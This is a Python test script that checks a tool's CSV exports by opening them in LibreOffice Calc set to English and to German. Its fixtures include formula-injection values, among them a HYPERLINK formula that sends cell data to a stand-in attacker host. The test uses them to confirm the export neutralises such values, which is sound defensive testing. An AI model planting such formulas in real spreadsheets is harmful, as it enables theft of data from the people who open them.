#!/usr/bin/env python3
# SPDX-FileCopyrightText: 2026 The Rapport developers
# SPDX-License-Identifier: GPL-3.0-or-later
"""The real spreadsheet as the judge of Rapport's CSV files: LibreOffice Calc (Debian's
libreoffice-calc-nogui) opens the accountant export and the history files the way a person's
Calc does, once set to English and once to German, and saves them as XLSX; openpyxl (Debian's
python3-openpyxl) reads the cells back.

For each desktop language, the export written with no --csv-dialect (the dialect of that
language) must give: amounts that are numbers summing to the total rapport-cli printed, dates
that are dates, names with accents, quotes and separators intact, and no cell that became a
formula. The English CSV asked for on a German desktop (--csv-dialect en), the accountant working
in English, is read by the English Calc too.

Two soffice runs in all (one per Calc language), each converting all of its files at once: a
run costs seconds, not the files in it.

Usage: spreadsheet_oracle.py RAPPORT_CLI
Exits 0 when every check holds, 1 when one fails, 77 (skipped) when soffice is not installed.
"""
import json
import os
import shutil
import subprocess
import sys
import tempfile
import time
from datetime import date, datetime
from pathlib import Path

SKIP = 77

COLUMNS = ["date", "customer", "customer id", "interaction id", "category",
           "resolution type", "amount", "currency", "summary"]

# Customers whose names a spreadsheet gets wrong: accents, quotes, both separators, and text
# that would run as a formula. The guarded ones show Rapport's ' in Calc (Excel hides it).
CUSTOMERS = [
    ("Zoë Müller-Lüdenscheidt", False),
    ('Anna "Annie" Kowalski, Jr.', False),
    ("Café; Bistro Ærø", False),
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', True),
    ("-2+3", True),
    ("@SUM(A1:A9)", True),
]

# (customer index, day, cost, summary): days on either side of a month and a year, days <= 12
# that a wrong day/month order would swap, and cents that float sums get wrong.
INCIDENTS = [
    (0, "2026-01-31", "1234.56", "Broken lid, customer upset; refund agreed"),
    (1, "2026-02-01", "0.10", 'Said "never again", then stayed'),
    (2, "2026-03-09", "99.99", "Line one\nline two"),
    (3, "2026-03-12", "1000000.01", "=SUM(A1:A9)"),
    (4, "2026-11-30", "12.50", "Ölfleck auf der Jacke, Reinigung bezahlt"),
    (5, "2026-12-01", "7", "-5% next time"),
    (0, "2026-12-31", "0.05", "Last day of the year"),
]

PURCHASES = [(0, "2026-01-02", "19.99"), (1, "2026-06-15", "1234.50"), (2, "2026-12-24", "0.01")]


class Failed(Exception):
    pass


def check(condition, message):
    if not condition:
        raise Failed(message)


def run(cli, db, args, env):
    r = subprocess.run([cli, "--db", str(db)] + args, env=env, capture_output=True, text=True)
    if r.returncode != 0:
        raise Failed(f"rapport-cli {' '.join(args)} exited {r.returncode}: {r.stderr.strip()}")
    return r.stdout


def desktop_env(lang):
    """The environment of a desktop session in `lang`, as a login sets it."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("LC_") and k != "LANGUAGE"}
    env["LANG"] = lang
    env["LANGUAGE"] = lang.split("_")[0] if lang.startswith("de") else ""
    return env


def installed_locales():
    r = subprocess.run(["locale", "-a"], capture_output=True, text=True)
    return {name.lower().replace("utf-8", "utf8") for name in r.stdout.split()}


def make_shop(cli, db, env):
    run(cli, db, ["init"], env)
    ids = []
    for name, _ in CUSTOMERS:
        ids.append(run(cli, db, ["customer", "add", name], env).strip().split()[-1])
    for who, day, cost, summary in INCIDENTS:
        run(cli, db, ["log", ids[who], "--summary", summary, "--at", day + "T10:00",
                      "--resolution", "refund", "--cost", cost, "--status", "accepted"], env)
    # Not exported: offered only, and outside the range.
    run(cli, db, ["log", ids[0], "--summary", "offered", "--at", "2026-05-05",
                  "--resolution", "refund", "--cost", "500", "--status", "offered"], env)
    run(cli, db, ["log", ids[0], "--summary", "last year", "--at", "2025-12-31",
                  "--resolution", "refund", "--cost", "3", "--status", "accepted"], env)
    for who, day, amount in PURCHASES:
        run(cli, db, ["purchase", "add", ids[who], "--amount", amount, "--date", day], env)


def export(cli, db, env, out, extra=()):
    """The accountant export of 2026 and the history; returns rapport-cli's --json report."""
    out.mkdir(parents=True)
    report = json.loads(run(cli, db, ["--json", "export", "accountant", "--from", "2026-01-01",
                                      "--to", "2026-12-31", "--out", str(out / "accountant.csv"),
                                      *extra], env))
    history = json.loads(run(cli, db, ["--json", "export", "history", "--format", "csv",
                                       "--out", str(out / "history"), *extra], env))
    check(history["csv_dialect"] == report["csv_dialect"],
          f"{out.name}: the history was written as {history['csv_dialect']}, the accountant's "
          f"export as {report['csv_dialect']}")
    return report


def convert(soffice, profile, files, separator, language, outdir):
    """One soffice run: every file through Calc's CSV import set to `language`, saved as XLSX."""
    options = f"CSV:{ord(separator)},34,76,1,,{language}"
    started = time.monotonic()
    r = subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless",
                        "--norestore", "--convert-to", "xlsx", f"--infilter={options}",
                        "--outdir", str(outdir)] + [str(f) for f in files],
                       capture_output=True, text=True, timeout=240)
    took = time.monotonic() - started
    print(f"soffice ({options}): {len(files)} files in {took:.1f} s")
    if r.returncode != 0:
        raise Failed(f"soffice exited {r.returncode}: {r.stderr.strip()}")
    return [outdir / (f.stem + ".xlsx") for f in files]


def rows_of(xlsx):
    import openpyxl

    ws = openpyxl.load_workbook(xlsx).worksheets[0]
    rows = [list(row) for row in ws.iter_rows()]
    for row in rows:
        for cell in row:
            check(cell.data_type != "f",
                  f"{xlsx.name} {cell.coordinate}: became the formula {cell.value!r}")
    return rows


def cents(value, where):
    check(isinstance(value, (int, float)) and not isinstance(value, bool),
          f"{where}: {value!r} is not a number")
    return round(value * 100)


def as_date(value, where):
    check(isinstance(value, (datetime, date)), f"{where}: {value!r} is not a date")
    return (value.date() if isinstance(value, datetime) else value).isoformat()


def check_accountant(xlsx, report, label):
    rows = rows_of(xlsx)
    header = [c.value for c in rows[0]]
    check(header == COLUMNS, f"{label}: the columns are {header}, not {COLUMNS}")
    data = rows[1:]
    check(len(data) == len(INCIDENTS) == report["rows"],
          f"{label}: {len(data)} rows, rapport-cli reported {report['rows']}")
    total = 0
    for k, (row, (who, day, cost, summary)) in enumerate(zip(data, INCIDENTS)):
        where = f"{label} row {k + 2}"
        name, guarded = CUSTOMERS[who]
        check(as_date(row[0].value, where + " date") == day, f"{where}: date {row[0].value!r}")
        shown = ("'" if guarded else "") + name
        check(row[1].value == shown, f"{where}: customer {row[1].value!r}, not {shown!r}")
        check(isinstance(row[2].value, (int, float)), f"{where}: customer id {row[2].value!r}")
        amount = cents(row[6].value, where + " amount")
        check(amount == round(float(cost) * 100), f"{where}: amount {row[6].value!r} for {cost}")
        check(row[7].value == report["currency"], f"{where}: currency {row[7].value!r}")
        expected = ("'" if summary.startswith(("=", "+", "-", "@")) else "") + summary
        check(row[8].value == expected, f"{where}: summary {row[8].value!r}")
        total += amount
    check(total == round(report["total"] * 100),
          f"{label}: the amounts sum to {total / 100:.2f}, rapport-cli printed "
          f"{report['total']:.2f}")
    print(f"{label}: {len(data)} rows sum to {total / 100:.2f} = the printed total")


def check_history(resolutions_xlsx, purchases_xlsx, label):
    rows = rows_of(resolutions_xlsx)
    cost = [c.value for c in rows[0]].index("cost")
    costs = sorted(cents(r[cost].value, f"{label} resolutions.csv {r[cost].coordinate}")
                   for r in rows[1:])
    expected = sorted([round(float(c) * 100) for _, _, c, _ in INCIDENTS] + [50000, 300])
    check(costs == expected, f"{label}: resolution costs {costs}, not {expected}")
    rows = rows_of(purchases_xlsx)
    header = [c.value for c in rows[0]]
    got = [(as_date(r[header.index("purchased_on")].value, f"{label} purchases.csv"),
            cents(r[header.index("amount")].value, f"{label} purchases.csv")) for r in rows[1:]]
    want = [(day, round(float(a) * 100)) for _, day, a in PURCHASES]
    check(got == want, f"{label}: purchases {got}, not {want}")
    print(f"{label}: history costs and purchases are numbers, purchase days are dates")


def main():
    cli = sys.argv[1]
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if not soffice:
        print("SKIPPED: soffice is not installed (Debian package libreoffice-calc-nogui, "
              "installed by ./packaging/dev.sh deps), so no spreadsheet judged the CSV files.")
        return SKIP
    try:
        import openpyxl  # noqa: F401
    except ImportError:
        print("FAILED: python3-openpyxl is missing (./packaging/dev.sh deps installs it).")
        return 1
    locales = installed_locales()
    if "de_de.utf8" not in locales:
        print("FAILED: the de_DE.UTF-8 locale is not installed, so there is no German desktop "
              "to test (./packaging/dev.sh deps generates it).")
        return 1
    english = "en_US.UTF-8" if "en_us.utf8" in locales else "C.UTF-8"
    german = "de_DE.UTF-8"

    with tempfile.TemporaryDirectory(prefix="rapport-oracle-") as tmp:
        tmp = Path(tmp)
        en_env, de_env = desktop_env(english), desktop_env(german)
        db = tmp / "shop.db"
        make_shop(cli, db, en_env)
        try:
            en = export(cli, db, en_env, tmp / "en")
            de = export(cli, db, de_env, tmp / "de")
            de_for_en = export(cli, db, de_env, tmp / "de-for-en", ["--csv-dialect", "en"])
            check(en["csv_dialect"] == "comma",
                  f"on an English desktop ({english}) the CSV is {en['csv_dialect']}, not comma")
            check(de["csv_dialect"] == "semicolon",
                  f"on a German desktop the CSV is {de['csv_dialect']}, not semicolon")
            check(de_for_en["csv_dialect"] == "comma", "--csv-dialect en did not give commas")

            # Distinct names for the files, since soffice names its output after its input.
            def staged(folder, tag):
                names = {"accountant.csv": folder / "accountant.csv",
                         "resolutions.csv": folder / "history" / "resolutions.csv",
                         "purchases.csv": folder / "history" / "purchases.csv"}
                out = []
                for name, src in names.items():
                    dst = tmp / "in" / f"{tag}-{name}"
                    dst.parent.mkdir(exist_ok=True)
                    shutil.copyfile(src, dst)
                    out.append(dst)
                return out

            profile = tmp / "libreoffice-profile"
            en_files = staged(tmp / "en", "en") + staged(tmp / "de-for-en", "de-for-en")[:1]
            de_files = staged(tmp / "de", "de")
            en_xlsx = convert(soffice, profile, en_files, ",", 1033, tmp / "calc-en")
            de_xlsx = convert(soffice, profile, de_files, ";", 1031, tmp / "calc-de")

            check_accountant(en_xlsx[0], en, "English desktop, Calc in English")
            check_history(en_xlsx[1], en_xlsx[2], "English desktop, Calc in English")
            check_accountant(en_xlsx[3], de_for_en,
                             "German desktop with --csv-dialect en, Calc in English")
            check_accountant(de_xlsx[0], de, "German desktop, Calc in German")
            check_history(de_xlsx[1], de_xlsx[2], "German desktop, Calc in German")
        except Failed as e:
            print(f"FAILED: {e}")
            return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
